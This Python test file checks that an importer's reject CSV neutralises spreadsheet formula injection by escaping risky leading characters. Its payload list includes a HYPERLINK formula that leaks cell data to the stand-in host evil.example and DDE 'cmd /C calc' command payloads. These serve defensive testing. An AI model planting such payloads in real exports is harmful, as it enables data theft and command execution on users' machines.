"""Reject files never carry a spreadsheet formula (issue 10, OWASP "CSV Injection").

A rejected line is copied into the reject file's `raw` column; a line such as `=HYPERLINK("http://evil","x")`
opened in Excel or LibreOffice would run. Every text cell of the reject file that begins with `=`, `+`, `-`, `@`,
a tab or a carriage return is written with a leading `'` (and so is one that begins with `'`, so that dropping one
leading `'` always gives the original back).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from edl.bootstrap import Container
from edl.registry.files import FORMULA_STARTS, spreadsheet_safe
from edl.registry.formats import COLUMNS
from edl.registry.importer import import_file
from tests.unit.registry.factories import row, rows, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2;=3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def original(cell: str) -> str:
    """What a reader of the reject file does: drop one leading `'`."""
    return cell[1:] if cell.startswith("'") else cell


@given(st.text())
@example("=1+1")
@example("'")
@example("''=x")
@example("")
def test_a_neutralised_cell_never_starts_a_formula_and_gives_the_original_back(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert original(safe) == text
    if not text.startswith((*FORMULA_STARTS, "'")):
        assert safe == text, "ordinary text is written as it is"


def reject_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def assert_no_formula(cells: list[list[str]]) -> None:
    for line in cells:
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would run {cell!r}"


@pytest.mark.integration
def test_formula_lines_of_a_csv_are_rejected_as_text(container: Container, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", rows(2))
    header_width = len(COLUMNS)
    with path.open("a", encoding="utf-8", newline="") as fh:
        for formula in FORMULAS:
            fh.write(formula + "\n")  # a stray line (wrong field count)
        # a line with the right field count whose every field is a formula
        fh.write(",".join(["=cmd|' /C calc'!A0"] * header_width) + "\n")
    rejects = tmp_path / "rejects.csv"

    report = import_file(container.engine, path, rejects, "test", clock=container.clock)

    assert report.accepted == 2 and report.rejected == len(FORMULAS) + 1
    cells = reject_cells(rejects)
    assert cells[0] == ["line", "reason", "raw"]
    assert_no_formula(cells)
    raws = [original(raw) for _line, _reason, raw in cells[1:]]
    assert raws[: len(FORMULAS)] == [f.rstrip("\r") for f in FORMULAS]
    assert raws[-1] == ",".join(["=cmd|' /C calc'!A0"] * header_width)


@pytest.mark.integration
def test_formula_lines_of_json_lines_are_rejected_as_text(container: Container, tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl"
    lines = [json.dumps(row(0), ensure_ascii=False), *FORMULAS[:5], '{"number": "=1+1"}']
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"

    report = import_file(container.engine, path, rejects, "test", clock=container.clock)

    assert report.accepted == 1 and report.rejected == 6
    cells = reject_cells(rejects)
    assert_no_formula(cells)
    assert [original(raw) for _line, _reason, raw in cells[1:]] == lines[1:]
